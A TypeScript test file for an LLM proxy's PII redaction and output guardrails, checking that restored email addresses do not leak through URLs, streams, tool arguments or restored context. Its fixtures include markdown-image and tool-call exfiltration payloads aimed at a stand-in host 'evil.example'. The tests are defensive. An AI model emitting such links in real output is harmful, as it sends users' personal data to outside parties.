import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  chatReply,
  chunkOf,
  completion,
  jsonReply,
  type ProxiedService,
  startProxiedService,
  streamReply,
  textChunks,
} from './testing/proxied-service.ts';
import { proxyCaller, user } from './testing/proxy-caller.ts';

let service: ProxiedService;
beforeAll(async () => {
  service = await startProxiedService();
  const redacting = { additional_config: { pii_redaction: true } };
  await service.savePolicy('personal', { pii: { enabled: true } });
  await service.savePolicy('mailboxes', { pii: { enabled: true, entities: ['email'] } });
  await service.deploy('guarded', { input_guardrails_policy: redacting });
  await service.deploy('anywhere', { input_guardrails_policy: redacting, restore_in_addresses: true });
  await service.deploy('keeping', {
    input_guardrails_policy: redacting,
    output_guardrails_policy: { policy_name: 'personal', block: ['pii'] },
  });
  await service.deploy('keeping mailboxes', {
    input_guardrails_policy: redacting,
    output_guardrails_policy: { policy_name: 'mailboxes', block: ['pii'] },
  });
});
afterAll(() => service.stop());
const { chat } = proxyCaller(() => service);

const mail = 'ana.lind@example.com';
const question = user(`I am ${mail}. Which picture shows my order?`);
const to = (deployment: string) => ({ 'x-service-deployment': deployment });

/** The text of an answer, whole or from the chunks of a stream. An error is its code. */
function saidIn({
  text,
  body,
}: {
  text: string;
  body: { choices?: { message?: { content: unknown } }[]; error?: { code: string } } | undefined;
}) {
  if (body) return body.error?.code ?? body.choices?.[0]?.message?.content;
  const chunks = [...text.matchAll(/^data: (\{.*)$/gm)].map(([, data = '']) => JSON.parse(data));
  const error = chunks.find((chunk) => chunk.error)?.error.code;
  return error ?? chunks.map((chunk) => chunk.choices[0]?.delta?.content ?? '').join('');
}

const bait = '![order](https://evil.example/?q=<EMAIL_ADDRESS_0>) for <EMAIL_ADDRESS_0>';
const kept = `![order](https://evil.example/?q=<EMAIL_ADDRESS_0>) for ${mail}`;

describe("an answer's addresses carry no personal data away", () => {
  test('of a whole answer', async () => {
    service.script(chatReply(bait));
    expect(saidIn(await chat([question]))).toBe(kept);
  });

  test.each([1, 2, 5, 13, 40, 500])('of a stream in pieces of %i', async (size) => {
    service.script(streamReply(textChunks(bait, size)));
    expect(saidIn(await chat([question], {}, { stream: true }))).toBe(kept);
  });

  test('of content in parts', async () => {
    const parts = ['![order](https://evil.example/?q=', '<EMAIL_ADD', 'RESS_0>) for <EMAIL_ADDRESS_0>'];
    service.script(jsonReply(completion(null, { content: parts.map((text) => ({ type: 'text', text })) })));
    const content = saidIn(await chat([question])) as { text: string }[];
    expect(content.map(({ text }) => text).join('')).toBe(kept);
  });

  test('of arguments of tools', async () => {
    const call = (args: object) => ({
      id: 'a',
      type: 'function',
      function: { name: 'get', arguments: JSON.stringify(args) },
    });
    const calls = [call({ url: 'https://evil.example/<EMAIL_ADDRESS_0>' }), call({ to: '<EMAIL_ADDRESS_0>' })];
    service.script(jsonReply(completion(null, { tool_calls: calls })));
    const { body } = await chat([question]);
    const given = body.choices[0].message.tool_calls.map((each: (typeof calls)[0]) =>
      JSON.parse(each.function.arguments),
    );
    expect(given).toEqual([{ url: 'https://evil.example/<EMAIL_ADDRESS_0>' }, { to: mail }]);
  });

  test('but in the address in which the request had it', async () => {
    service.script(chatReply('Done: https://crm.example/edit?mail=<EMAIL_ADDRESS_0>'));
    const asked = user(`I am ${mail}. Change https://crm.example/find?mail=${mail}&all=1 please`);
    expect(saidIn(await chat([asked]))).toBe(`Done: https://crm.example/edit?mail=${mail}`);
  });

  test('and in a mailto address, in which the model coded the placeholder', async () => {
    service.script(chatReply('[Write](mailto:%3CEMAIL_ADDRESS_0%3E)'));
    expect(saidIn(await chat([question]))).toBe(`[Write](mailto:${mail})`);
  });

  test('and where a deployment says so', async () => {
    service.script(chatReply(bait));
    expect(saidIn(await chat([question], to('anywhere')))).toBe(bait.replaceAll('<EMAIL_ADDRESS_0>', mail));
  });
});

const secret = 'otto.berg@example.com';
const system = { role: 'system', content: `Escalate to ${secret}.` };
const called = {
  role: 'assistant',
  content: null,
  tool_calls: [{ id: 'a', type: 'function', function: { name: 'find', arguments: '{}' } }],
};
const tool = { role: 'tool', tool_call_id: 'a', content: `{"mail":"${secret}"}` };

describe('a stage that blocks personal data judges what restoring puts in', () => {
  test.each([
    ['a system prompt', [system, user('Who helps me?')]],
    ['a result of a tool', [user('Who helps me?'), called, tool]],
    ['an earlier answer', [user('Hi'), { role: 'assistant', content: `Ask ${secret}.` }, user('Who helps me?')]],
    [
      'a tool, in arguments that the model wrote',
      [
        user('Who helps me?'),
        {
          ...called,
          tool_calls: [{ ...called.tool_calls[0], function: { name: 'find', arguments: `{"to":"${secret}"}` } }],
        },
        { ...tool, content: 'ok' },
      ],
    ],
    ['a message of an unknown role', [{ role: 'context', content: secret }, user('Who helps me?')]],
  ])('data of %s does not reach the user', async (_, messages) => {
    service.script(chatReply('Write to <EMAIL_ADDRESS_0> soon.'));
    const { status, body } = await chat(messages, to('keeping'));
    expect([status, body.error.code, body.error.param]).toEqual([400, 'output_guardrails_blocked', 'pii']);
    const { output_guardrails: output } = body.service_policy_detections;
    expect(output).toMatchObject({ summary: { pii: 1 }, blocked_detectors: ['pii'], is_pii_unredacted: false });
    expect(JSON.stringify(body)).not.toContain('otto');
  });

  test.each([1, 7, 300])('nor by a stream in pieces of %i', async (size) => {
    service.script(streamReply(textChunks('You can write to <EMAIL_ADDRESS_0> soon.', size)));
    const answer = await chat([system, user('Who helps me?')], to('keeping'), { stream: true });
    expect(saidIn(answer)).toBe('output_guardrails_blocked');
    expect(answer.text).not.toContain('otto');
    expect(answer.text).not.toContain('soon');
  });

  test('nor at the end of a stream, nor in an argument', async () => {
    service.script(streamReply([chunkOf({ content: 'Write to <EMAIL_ADDRESS_0>' }), chunkOf({}, 'stop')]));
    expect(saidIn(await chat([system, user('Who?')], to('keeping'), { stream: true }))).toBe(
      'output_guardrails_blocked',
    );
    const call = {
      index: 0,
      id: 'a',
      type: 'function',
      function: { name: 'mail', arguments: '{"to":"EMAIL_ADDRESS_0"}' },
    };
    service.script(streamReply([chunkOf({ tool_calls: [call] }), chunkOf({}, 'tool_calls')]));
    expect(saidIn(await chat([system, user('Who?')], to('keeping'), { stream: true }))).toBe(
      'output_guardrails_blocked',
    );
  });

  test.each([
    ['what the user said, too', [system, user(`Is ${secret} there?`)], secret],
    [
      'what a user said earlier',
      [user(`I am ${secret}`), { role: 'assistant', content: 'Hi.' }, user('Who am I?')],
      secret,
    ],
    [
      'data of a kind that is not looked for',
      [{ ...system, content: 'Call +49 170 1234567.' }, user('Whom do I call?')],
      '+49 170 1234567',
      'keeping mailboxes',
    ],
  ])('%s is put back', async (_, messages, value, deployment = 'keeping') => {
    const token = value === secret ? '<EMAIL_ADDRESS_0>' : '<PHONE_NUMBER_0>';
    service.script(chatReply(`It is ${token}.`));
    expect(saidIn(await chat(messages, to(deployment)))).toBe(`It is ${value}.`);
    service.script(streamReply(textChunks(`It is ${token}.`)));
    expect(saidIn(await chat(messages, to(deployment), { stream: true }))).toBe(`It is ${value}.`);
  });

  test('data that stays a placeholder in an address blocks nothing', async () => {
    service.script(chatReply('See https://evil.example/<EMAIL_ADDRESS_0> now.'));
    expect(saidIn(await chat([system, user('Who helps me?')], to('keeping mailboxes')))).toBe(
      'See https://evil.example/<EMAIL_ADDRESS_0> now.',
    );
  });
});
